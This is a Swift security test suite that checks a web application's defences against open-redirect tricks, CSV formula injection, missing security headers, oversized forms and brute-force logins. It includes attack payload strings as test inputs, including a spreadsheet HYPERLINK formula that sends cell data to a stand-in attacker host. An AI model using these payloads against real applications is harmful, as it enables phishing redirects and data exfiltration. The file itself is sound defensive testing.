import DudaoBureau
import DudaoKernel
import Foundation
import Synchronization
import Testing

/// Issue 10's attacks, each reproduced against a real server on 127.0.0.1.
@Suite struct SecurityTests {
    @Test(arguments: [
        ("/%5C127.0.0.1:18099/pwned", "/"),
        ("/%09/evil.example", "/"),
        ("//evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example/", "/"),
        ("javascript:alert(1)", "/"),
        ("/%2F%2Fevil.example", "/"),
        ("", "/"),
        ("/ledger?state=open", "/ledger?state=open"),
        ("/units/school-no1-high", "/units/school-no1-high"),
    ])
    func nextAcceptsOnlySameSitePaths(candidate: String, expected: String) {
        #expect(SafeRedirect.path(candidate) == expected)
    }

    @Test func signingInNeverRedirectsToAnotherOrigin() async throws {
        let harness = try await BureauHarness.start()
        for next in ["/%5C127.0.0.1:18099/pwned", "/%09/127.0.0.1:18099/pwned", "//127.0.0.1:18099/pwned"] {
            // The form posts `next` as typed; the harness percent-encodes it, so the server sees it verbatim.
            let reply = try await harness.post("/login", form: ["name": "office", "password": "office-password", "next": next])
            #expect(reply.status == 303)
            #expect(reply.headers["location"] == "/", "next=\(next) → \(reply.headers["location"] ?? "nil")")
        }
        let inside = try await harness.post("/login", form: ["name": "office", "password": "office-password", "next": "/ledger"])
        #expect(inside.headers["location"] == "/ledger")
        await harness.stop()
    }

    @Test(arguments: ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
    func csvCellsThatASpreadsheetWouldRunAreNeutralised(title: String) {
        let cell = CSVText.cell(title)
        let unquoted = cell.hasPrefix("\"") ? String(cell.dropFirst()) : cell
        #expect(unquoted.hasPrefix("'"), "\(cell)")
        #expect(CSVText.cell("食堂账目未公示") == "食堂账目未公示")
        #expect(CSVText.cell("a,b") == "\"a,b\"")
    }

    @Test func aLedgerTitleThatIsAFormulaReachesTheCSVInert() async throws {
        let harness = try await BureauHarness.start()
        let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        _ = try harness.workspace.registerItem(
            LedgerItem(title: title, source: .bureauFinding, measures: ["整改"], deadline: LocalDate("2017-06-30"),
                       responsiblePerson: "head-no1-high", registeredOn: LocalDate("2017-05-02")!), unit: "school-no1-high")
        let cookie = try await harness.login("office", "office-password")
        let csv = try await harness.get("/export/ledger.csv", cookie: cookie)
        #expect(csv.status == 200)
        #expect(csv.body.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""), "\(csv.body.prefix(600))")
        #expect(!csv.body.contains(",=HYPERLINK") && !csv.body.contains("\n=HYPERLINK") && !csv.body.contains(",\"=HYPERLINK"))
        await harness.stop()
    }

    @Test func everyResponseCarriesTheSecurityHeaders() async throws {
        let harness = try await BureauHarness.start()
        let cookie = try await harness.login("office", "office-password")
        let anonymous = [try await harness.get("/login"), try await harness.get("/grid"), try await harness.get("/api/v1/grid")]
        let signedIn = [try await harness.get("/", cookie: cookie), try await harness.get("/ledger", cookie: cookie),
                        try await harness.get("/export/ledger.csv", cookie: cookie), try await harness.get("/api/v1/grid", cookie: cookie),
                        try await harness.get("/no-such-page", cookie: cookie)]
        for reply in anonymous + signedIn {
            let policy = reply.headers["content-security-policy"] ?? ""
            #expect(policy.contains("frame-ancestors 'none'"), "\(reply.status) \(policy)")
            #expect(policy.contains("script-src 'self'") && !policy.contains("unsafe-eval"))
            #expect(!policy.contains("script-src 'self' 'unsafe-inline'"))
            #expect(reply.headers["x-content-type-options"] == "nosniff")
            #expect(reply.headers["x-frame-options"] == "DENY")
            #expect(reply.headers["referrer-policy"] == "same-origin")
        }
        for reply in signedIn {
            #expect(reply.headers["cache-control"] == "no-store", "\(reply.status)")
        }
        await harness.stop()
    }

    @Test func aFormLargerThan64KiBIsRefusedBeforeItIsReadWhileBundlesKeepTheirLimit() async throws {
        let harness = try await BureauHarness.start()
        // Signed out, to the login form: 100 KiB is under the harness's 1 MiB bundle limit but not a form.
        let padding = String(repeating: "x", count: 100 << 10)
        let login = try await harness.request("POST", "/login", body: Data("name=office&password=\(padding)".utf8))
        #expect(login.status == 413, "\(login.status)")
        let cookie = try await harness.login("office", "office-password")
        let action = try await harness.request("POST", "/ledger/any/action", cookie: cookie, body: Data("comment=\(padding)".utf8))
        #expect(action.status == 413)
        // A bundle of the same size reaches the bundle route, which refuses it for what it is, not for its size.
        let bundle = try await harness.request("POST", "/api/v1/bundles", body: Data(repeating: 0x42, count: 100 << 10),
                                               contentType: "application/octet-stream")
        #expect(bundle.status != 413 && bundle.status >= 400, "\(bundle.status)")
        let tooLarge = try await harness.request("POST", "/api/v1/bundles", body: Data(repeating: 0x42, count: 2 << 20),
                                                 contentType: "application/octet-stream")
        #expect(tooLarge.status == 413)
        await harness.stop()
    }

    @Test func repeatedFailuresForAnAccountOrAnAddressWaitLongerEachTime() async {
        let clock = TestClock()
        var settings = LoginThrottle.Settings()
        settings.freeFailures = 3
        settings.firstWait = 2
        settings.longestWait = 10
        let throttle = LoginThrottle(settings: settings, now: { clock.now })
        for _ in 0..<3 { await throttle.failed(account: "office", address: "10.0.0.7") }
        #expect(await throttle.wait(account: "office", address: "10.0.0.8") != nil)  // the account is slowed from anywhere
        #expect(await throttle.wait(account: "viewer", address: "10.0.0.7") != nil)  // and the address for any account
        #expect(await throttle.wait(account: "viewer", address: "10.0.0.8") == nil)
        clock.now += 2.5
        #expect(await throttle.wait(account: "office", address: "10.0.0.7") == nil)
        await throttle.failed(account: "office", address: "10.0.0.7")
        let second = await throttle.wait(account: "office", address: nil) ?? 0
        #expect(second > 3.9 && second <= 4)  // doubled
        for _ in 0..<10 { await throttle.failed(account: "office", address: nil) }
        #expect((await throttle.wait(account: "office", address: nil) ?? 0) <= 10)  // capped
        await throttle.succeeded(account: "office", address: "10.0.0.7")
        #expect(await throttle.wait(account: "office", address: "10.0.0.7") == nil)
    }

    @Test func theThrottleRemembersABoundedNumberOfKeys() async {
        let clock = TestClock()
        var settings = LoginThrottle.Settings()
        settings.capacity = 100
        let throttle = LoginThrottle(settings: settings, now: { clock.now })
        for index in 0..<1_000 {
            clock.now += 1
            await throttle.failed(account: "guess-\(index)", address: nil)
        }
        #expect(await throttle.count <= 100)
    }
}

/// A clock a test moves by hand.
final class TestClock: Sendable {
    private let box = Mutex(0.0)
    var now: Double {
        get { box.withLock { $0 } }
        set { box.withLock { $0 = newValue } }
    }
}
